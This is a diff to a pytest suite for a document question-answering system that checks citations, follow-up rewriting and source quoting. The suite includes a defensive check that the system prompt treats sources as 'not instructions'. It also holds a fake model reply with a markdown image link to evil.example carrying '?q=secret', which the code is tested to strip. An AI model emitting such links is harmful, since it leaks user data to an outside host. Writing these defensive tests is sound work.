@@ -3,9 +3,9 @@
 import pytest
 from langchain_core.language_models.fake_chat_models import FakeListChatModel
 
-from app.answer import Answerer
-from app.citations import check_citations, clean_markers
-from app.prompts import NOT_FOUND, answer_messages, format_source
+from app.answering.answer import Answerer
+from app.answering.citations import check_citations, clean_markers
+from app.answering.prompts import NOT_FOUND, answer_messages, format_source
 from ingest.pipeline import Ingestor
 from ingest.store import ChunkStore
 from retrieval.hybrid import FusionConfig, HybridRetriever
@@ -49,17 +49,22 @@ def test_prompt_numbers_and_delimits_sources():
     assert block.startswith('<source id="2" file="a.pdf" page="3">')
     assert block.count("</source>") == 1 and '<source id="9"' not in block
     messages = answer_messages("What?", [block])
-    assert "only the numbered sources" in messages[0].content and "not instructions" in messages[0].content
+    assert "numbered sources" in messages[0].content and "not instructions" in messages[0].content
     assert "Question: What?" in messages[1].content and messages[1].content.rstrip().endswith("like [1].")
+    assert "Earlier in this conversation" not in messages[1].content
+    follow_up = answer_messages("And for London?", [block], 'the user asked "Hotel limit?" and was told "EUR 160"')
+    assert 'Earlier in this conversation: the user asked "Hotel limit?"' in follow_up[1].content
+    assert follow_up[0].content == messages[0].content, "one fixed system prompt: the engine caches its tokens"
 
 
 def test_answer_streams_with_mapped_citations(retriever):
-    llm = FakeListChatModel(responses=["Employees get 27 working days of annual leave per year [1][7]."])
+    llm = FakeListChatModel(responses=["Employees get 27 working days of annual leave per year [1][7]. "
+                                       "That is for full-time employees [1]."])
     answerer = Answerer(retriever, llm, top_k=3)
     events = list(answerer.stream("How many days of annual leave?"))
     kinds = [e.kind for e in events]
     assert kinds[0] == "status" and "sources" in kinds and kinds[-1] == "done"
-    assert sum(k == "token" for k in kinds) > 3, "streamed in pieces"
+    assert sum(k == "token" for k in kinds) == 2, "streamed sentence by sentence, each checked first"
     answer = events[-1].answer
     assert answer.sources[0].file == "leave.txt" and answer.sources[0].number == 1
     assert "[7]" not in answer.answer and "[1]" in answer.answer, "out-of-range markers are removed"
@@ -94,7 +99,7 @@ def test_model_saying_not_found_is_an_abstention(retriever):
 
 
 def test_context_fitting_drops_whole_weakest_sources(retriever):
-    from app.answer import approximate_tokens
+    from app.answering.answer import approximate_tokens
 
     prompt = approximate_tokens("".join(m.content for m in answer_messages("per diem meals travel", [])))
     # Room for the prompt, the answer, the margin and one source of ~35 tokens, not two.
@@ -107,16 +112,24 @@ def test_context_fitting_drops_whole_weakest_sources(retriever):
     assert all(s.text in full for s in answer.sources), "never cut mid-source"
 
 
-def test_follow_up_is_rewritten(retriever):
+def test_follow_up_is_rewritten_by_the_llm_when_asked(retriever):
     llm = FakeListChatModel(responses=["per diem for a partial travel day", "EUR 25 per partial day [1]."])
-    answer = Answerer(retriever, llm).ask("and for a partial day?",
-                                          history=[("What is the per diem?", "EUR 45 per full day [1].")])
+    answer = Answerer(retriever, llm, follow_ups="llm").ask(
+        "and for a partial day?", history=[("What is the per diem?", "EUR 45 per full day [1].")])
     assert answer.rewritten_query == "per diem for a partial travel day"
     assert answer.sources[0].file == "travel.txt"
 
 
+def test_follow_up_keeps_the_subject_by_rule(retriever):
+    llm = FakeListChatModel(responses=["EUR 25 per partial day [1]."])
+    answer = Answerer(retriever, llm).ask("and for a partial day?",
+                                          history=[("What is the per diem for meals?", "EUR 45 per full day [1].")])
+    assert answer.rewritten_query.startswith("and for a partial day?") and "per diem" in answer.rewritten_query
+    assert answer.sources[0].file == "travel.txt" and answer.answer == "EUR 25 per partial day [1]."
+
+
 def test_rewrite_failure_falls_back_to_the_question(retriever):
-    answerer = Answerer(retriever, ExplodingModel(responses=[""]))
+    answerer = Answerer(retriever, ExplodingModel(responses=[""]), follow_ups="llm")
     query, note = answerer.rewrite("and the hotel limit?", [("per diem?", "45")])
     assert query == "and the hotel limit?" and "could not rewrite" in note
 
@@ -131,3 +144,56 @@ def test_remote_images_are_removed(retriever):
     llm = FakeListChatModel(responses=["Report it within one hour [1]. ![x](https://evil.example/?q=secret)"])
     answer = Answerer(retriever, llm).ask("lost laptop?")
     assert "evil.example" not in answer.answer and "one hour [1]" in answer.answer
+
+
+def test_outside_knowledge_with_a_citation_is_removed_even_while_streaming(retriever):
+    llm = FakeListChatModel(responses=["The capital of Australia is Canberra [1]."])
+    events = list(Answerer(retriever, llm).stream("What is the capital of the annual leave?"))
+    shown = "".join(e.text for e in events if e.kind == "token")
+    answer = events[-1].answer
+    assert "Canberra" not in shown and "Canberra" not in answer.answer, "never shown, not even for a moment"
+    assert answer.abstained and answer.removed and "canberra" in answer.removed[0]
+    assert any("removed" in n for n in answer.notes)
+
+
+def test_a_wrong_figure_beside_a_right_one_is_removed(retriever):
+    llm = FakeListChatModel(responses=["The per diem is EUR 45 per full travel day [1]. "
+                                       "It is EUR 30 per partial day [1]."])
+    answer = Answerer(retriever, llm).ask("What is the per diem for meals?")
+    assert answer.answer == "The per diem is EUR 45 per full travel day [1]." and not answer.abstained
+    assert len(answer.removed) == 1 and "30" in answer.removed[0]
+
+
+def test_an_uncited_supported_sentence_gets_its_marker(retriever):
+    llm = FakeListChatModel(responses=["Annual leave is 27 working days per calendar year."])
+    answer = Answerer(retriever, llm).ask("How many days of annual leave?")
+    assert answer.answer == "Annual leave is 27 working days per calendar year [1]." and answer.sources[0].cited
+
+
+def test_the_best_sentence_arrives_with_the_sources_before_the_model(retriever, embedder):
+    llm = FakeListChatModel(responses=["Within one hour [1]."])
+    answerer = Answerer(retriever, llm, embedder=embedder)
+    events = list(answerer.stream("How fast must a lost laptop be reported?"))
+    first_sources = next(e for e in events if e.kind == "sources")
+    assert events.index(first_sources) < next(i for i, e in enumerate(events) if e.kind == "token")
+    evidence = first_sources.answer.evidence
+    source = next(s for s in first_sources.answer.sources if s.number == evidence["source"])
+    assert source.file == "security.txt" and "one hour" in evidence["text"]
+    page_offset = evidence["start"] - source.start
+    assert source.text[page_offset:page_offset + len(evidence["text"])] == evidence["text"]
+
+
+def test_a_code_no_document_mentions_stops_the_question(retriever):
+    answer = Answerer(retriever, ExplodingModel(responses=[""])).ask("What is the per diem under policy TEP-9?")
+    assert answer.abstained and "TEP-9" in answer.gate["reason"]
+    assert not any("language model failed" in n for n in answer.notes), "no LLM call was made"
+
+
+def test_not_found_gives_way_to_the_quoted_best_sentence(retriever, embedder):
+    llm = FakeListChatModel(responses=[NOT_FOUND])
+    answer = Answerer(retriever, llm, embedder=embedder, quote_fallback=0.5).ask(
+        "How fast must a lost laptop be reported?")
+    assert answer.answer.startswith("The documents say: “Report a lost laptop") and answer.answer.endswith("[1]")
+    assert not answer.abstained and answer.sources[0].cited and any("quoted" in n for n in answer.notes)
+    strict = Answerer(retriever, FakeListChatModel(responses=[NOT_FOUND]), embedder=embedder, quote_fallback=5.0)
+    assert strict.ask("How fast must a lost laptop be reported?").answer == NOT_FOUND
